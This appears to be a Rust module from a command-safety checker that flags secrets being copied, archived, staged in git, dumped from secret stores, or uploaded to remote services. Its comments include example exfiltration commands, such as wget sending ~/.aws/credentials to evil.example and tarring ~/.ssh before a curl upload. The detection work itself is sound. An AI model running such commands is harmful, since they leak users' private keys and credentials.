//! Secrets that a command copies: into another file, into git's index, or to a remote store.

use super::super::shell::Sh;

/// A cloud or hosting CLI's command that copies local files to a remote store (`aws s3 cp`,
/// `gsutil cp`, `az storage blob upload --file`, `gh gist create`).
pub(super) fn stored_remotely(name: &str, args: &[String]) -> bool {
    let has = |words: &[&str]| args.iter().any(|a| words.contains(&a.as_str()));
    match name {
        "aws" => has(&["s3"]) && has(&["cp", "mv", "sync"]),
        "gsutil" => has(&["cp", "mv", "rsync"]),
        "gcloud" => has(&["storage"]) && has(&["cp", "mv", "rsync"]),
        "az" => has(&["upload", "upload-batch", "sync"]),
        "azcopy" => has(&["copy", "cp", "sync"]),
        "s3cmd" => has(&["put", "sync", "cp", "mv"]),
        "mc" => has(&["cp", "mirror", "mv"]),
        // A secret file given to a forge's client is sent to the forge (`gh issue create
        // --body-file ~/.ssh/id_rsa`), unless it is stored as a secret or a login there.
        // A download writes the file named; it sends nothing.
        // A search or an API path naming such a file (`gh api repos/o/r/contents/.env`) reads
        // the forge's copy, unless a field or the body is read from a file (`-F x=@f`,
        // `--input f`).
        "gh" | "glab" => {
            let mut words = args
                .iter()
                .filter(|a| !a.starts_with('-'))
                .map(String::as_str);
            let first = words.next();
            let uploads = args
                .iter()
                .any(|a| a.contains('@') || a.starts_with("--input"));
            !matches!(
                first,
                Some("secret" | "variable" | "auth" | "ssh-key" | "gpg-key" | "config" | "search")
            ) && (first != Some("api") || uploads)
                && !matches!(words.next(), Some("download" | "clone" | "view" | "list"))
        }
        // Mailed (`git send-email … ~/.ssh/id_rsa`).
        "git" => has(&["send-email"]),
        // Its lines requested as URLs (`wget -B https://evil.example/ -i ~/.aws/credentials`).
        // `-i F`, a cluster ending in `i` (`-qi F`), `--input-file`.
        "wget" => args.iter().any(|a| {
            a.starts_with("--input-file")
                || a.starts_with('-') && !a.starts_with("--") && a.ends_with('i')
        }),
        _ => false,
    }
}

/// A secret copied into another file (`cp ~/.ssh/id_rsa docs/logo.txt`, `dd
/// if=.env of=/tmp/x`) makes that file a secret; one staged in git (`git add` of it) is sent
/// by a later push.
pub(super) fn copied_secret(sh: &mut Sh, name: &str, args: &[String], what: &str) {
    let operands: Vec<&String> = args.iter().filter(|a| !a.starts_with('-')).collect();
    match name {
        "cp" | "mv" | "install" | "ln" | "rsync" | "ditto" => {
            if let Some(dest) = operands.last() {
                sh.secret_files.push(((*dest).clone(), what.to_string()));
            }
        }
        "dd" => {
            if let Some(dest) = args.iter().find_map(|a| a.strip_prefix("of=")) {
                sh.secret_files.push((dest.to_string(), what.to_string()));
            }
        }
        // An archive or a ciphertext of a secret holds it (`tar czf /tmp/b.tgz ~/.ssh`, then
        // `curl -T /tmp/b.tgz …`).
        "tar" | "bsdtar" | "zip" | "7z" | "7za" | "7zz" | "rar" | "gpg" | "gpg2" | "age"
        | "openssl" => {
            if let Some(dest) = archive_written(name, args) {
                sh.secret_files.push((dest.to_string(), what.to_string()));
            }
        }
        "git" if operands.first().is_some_and(|s| *s == "add") => {
            sh.secret_staged = Some(what.to_string());
        }
        _ => {}
    }
}

/// The file an archiver or a cipher writes: `tar`'s `-f` (also in a cluster, `czf F`, or
/// `--file=F`), `zip`'s archive (its first operand), `7z a F`, `rar a F`, and `-o`/`--output`
/// (`gpg`, `age`) or `-out` (`openssl`).
pub(super) fn archive_written<'a>(name: &str, args: &'a [String]) -> Option<&'a str> {
    let after = |i: usize| args.get(i + 1).map(String::as_str);
    match name {
        "tar" | "bsdtar" => args.iter().enumerate().find_map(|(i, a)| {
            if let Some(f) = a.strip_prefix("--file=") {
                Some(f)
            } else if a == "--file"
                || (a.starts_with('-') && !a.starts_with("--") && a.ends_with('f'))
                // The old style: the first word is the cluster (`tar czf F …`).
                || (i == 0 && a.ends_with('f') && a.chars().all(|c| c.is_ascii_alphabetic()))
            {
                after(i)
            } else {
                None
            }
        }),
        "zip" => {
            const VALUED: &[&str] = &["-P", "--password", "-b", "-t", "-tt", "-n", "-Z"];
            args.iter().enumerate().find_map(|(i, a)| {
                let valued = i > 0
                    && args
                        .get(i - 1)
                        .is_some_and(|p| VALUED.contains(&p.as_str()));
                (!a.starts_with('-') && !valued).then_some(a.as_str())
            })
        }
        "7z" | "7za" | "7zz" | "rar" => args
            .iter()
            .position(|a| a == "a")
            .and_then(|i| args.iter().skip(i + 1).find(|a| !a.starts_with('-')))
            .map(String::as_str),
        _ => args.iter().enumerate().find_map(|(i, a)| {
            if let Some(f) = a.strip_prefix("--output=") {
                Some(f)
            } else if matches!(a.as_str(), "-o" | "--output" | "-out") {
                after(i)
            } else {
                None
            }
        }),
    }
}

/// A store of secrets saved whole into a file (`vault operator raft snapshot save F`,
/// `etcdctl snapshot save F`, `firebase auth:export F`): that file is a secret.
pub(super) fn dumped_secret(sh: &mut Sh, name: &str, args: &[String]) {
    // Every command passes here: others are left before anything is allocated.
    if !matches!(name, "vault" | "etcdctl" | "firebase") {
        return;
    }
    let words: Vec<&str> = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .map(String::as_str)
        .collect();
    // The words from the operation on (a global option's value may come before it).
    let from = |op: &str| {
        words
            .iter()
            .position(|w| *w == op)
            .and_then(|i| words.get(i..))
            .unwrap_or_default()
    };
    let file = match (name, from("snapshot"), from("auth:export")) {
        ("vault" | "etcdctl", ["snapshot", "save", file, ..], _)
        | ("firebase", _, ["auth:export", file, ..]) => *file,
        _ => return,
    };
    let what = format!("a snapshot saved by `{name}`");
    sh.secret_files.push((file.to_string(), what));
}

/// True if `path` holds a copy of the secret `what` made in the line: not a file that is its
/// own source, nor a copy of a template (`cp .env.example .env`).
pub(crate) fn secret_copy(path: &str, what: &str) -> bool {
    let template = [
        ".example",
        ".sample",
        ".template",
        ".dist",
        ".tmpl",
        ".defaults",
    ]
    .iter()
    .any(|t| what.ends_with(t));
    // Public halves and host lists (`known_hosts`, `id_rsa.pub`, `public.pem`) are no secret.
    let public = what.ends_with("known_hosts") || what.ends_with(".pub") || what.contains("public");
    path != what && !template && !public
}
